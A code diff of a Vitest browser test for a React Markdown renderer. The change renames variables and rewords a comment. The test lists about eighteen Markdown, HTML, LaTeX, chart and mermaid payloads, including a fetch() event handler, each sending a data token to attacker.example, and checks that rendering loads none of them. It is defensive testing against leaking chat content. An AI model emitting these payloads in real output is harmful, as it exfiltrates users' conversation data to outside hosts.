@@ -2,29 +2,29 @@ import { expect, it } from 'vitest'
 import { render } from 'vitest-browser-react'
 import Markdown from './markdown.tsx'
 
-const away = 'https://attacker.example/'
-const carrying = (name: string) => `${away}${name}?d=PEARL-1844`
+const attackerUrl = 'https://attacker.example/'
+const leakUrl = (name: string) => `${attackerUrl}${name}?d=PEARL-1844`
 
 /** Each would carry the conversation out if it were loaded. */
 const forms = [
-  `![x](${carrying('picture')})`,
-  `![x][ref]\n\n[ref]: ${carrying('reference')}`,
-  `[![x](${carrying('linked')})](${carrying('link')})`,
-  `| a |\n| --- |\n| ![x](${carrying('table')}) |`,
-  `Note[^1]\n\n[^1]: ![x](${carrying('footnote')})`,
+  `![x](${leakUrl('picture')})`,
+  `![x][ref]\n\n[ref]: ${leakUrl('reference')}`,
+  `[![x](${leakUrl('linked')})](${leakUrl('link')})`,
+  `| a |\n| --- |\n| ![x](${leakUrl('table')}) |`,
+  `Note[^1]\n\n[^1]: ![x](${leakUrl('footnote')})`,
   `![x](//attacker.example/relative?d=PEARL-1844)`,
-  `<img src="${carrying('img')}">`,
-  `<picture><source srcset="${carrying('srcset')}"><img></picture>`,
-  `<video poster="${carrying('poster')}" src="${carrying('video')}"></video>`,
-  `<iframe src="${carrying('iframe')}"></iframe><object data="${carrying('object')}"></object>`,
-  `<link rel="preload" href="${carrying('preload')}"><style>@import "${carrying('import')}"</style>`,
-  `<p style="background:url(${carrying('background')})">x</p>`,
-  `<svg><image href="${carrying('svg')}"/><use href="${carrying('use')}"/></svg>`,
-  `<script src="${carrying('script')}"></script><base href="${away}"><form action="${away}"><input autofocus></form>`,
-  `<details open ontoggle="fetch('${carrying('event')}')">x</details>`,
-  `$\\includegraphics{${carrying('formula')}}$ and $\\href{${carrying('formula-link')}}{x}$`,
-  `\`\`\`chart\n{"v":1,"type":"bar","image":"${carrying('chart')}","columns":[],"rows":[]}\n\`\`\``,
-  `\`\`\`mermaid\ngraph TD; A["<img src='${carrying('diagram')}'>"] --> B; click A "${carrying('click')}"\n\`\`\``,
+  `<img src="${leakUrl('img')}">`,
+  `<picture><source srcset="${leakUrl('srcset')}"><img></picture>`,
+  `<video poster="${leakUrl('poster')}" src="${leakUrl('video')}"></video>`,
+  `<iframe src="${leakUrl('iframe')}"></iframe><object data="${leakUrl('object')}"></object>`,
+  `<link rel="preload" href="${leakUrl('preload')}"><style>@import "${leakUrl('import')}"</style>`,
+  `<p style="background:url(${leakUrl('background')})">x</p>`,
+  `<svg><image href="${leakUrl('svg')}"/><use href="${leakUrl('use')}"/></svg>`,
+  `<script src="${leakUrl('script')}"></script><base href="${attackerUrl}"><form action="${attackerUrl}"><input autofocus></form>`,
+  `<details open ontoggle="fetch('${leakUrl('event')}')">x</details>`,
+  `$\\includegraphics{${leakUrl('formula')}}$ and $\\href{${leakUrl('formula-link')}}{x}$`,
+  `\`\`\`chart\n{"v":1,"type":"bar","image":"${leakUrl('chart')}","columns":[],"rows":[]}\n\`\`\``,
+  `\`\`\`mermaid\ngraph TD; A["<img src='${leakUrl('diagram')}'>"] --> B; click A "${leakUrl('click')}"\n\`\`\``,
 ]
 
 const loads =
@@ -42,7 +42,7 @@ it('CHT-02 loads nothing from elsewhere for an answer, showing links without a r
   const loading = [...container.querySelectorAll(loads)].filter((element) =>
     element
       .getAttributeNames()
-      // a drawing in an address of its own loads nothing, whatever it holds
+      // an SVG in a data URL loads nothing, whatever it contains
       .filter((name) => name !== 'alt' && !element.getAttribute(name)?.startsWith('data:'))
       .some((name) => element.getAttribute(name)?.includes('attacker.example')),
   )
@@ -51,5 +51,5 @@ it('CHT-02 loads nothing from elsewhere for an answer, showing links without a r
   for (const link of container.querySelectorAll('a[href*="attacker.example"]'))
     expect(link.getAttribute('rel')).toContain('noreferrer')
   const requestUrls = performance.getEntriesByType('resource').map(({ name }) => name)
-  expect(requestUrls.filter((name) => name.startsWith(away))).toEqual([])
+  expect(requestUrls.filter((name) => name.startsWith(attackerUrl))).toEqual([])
 }, 30_000)
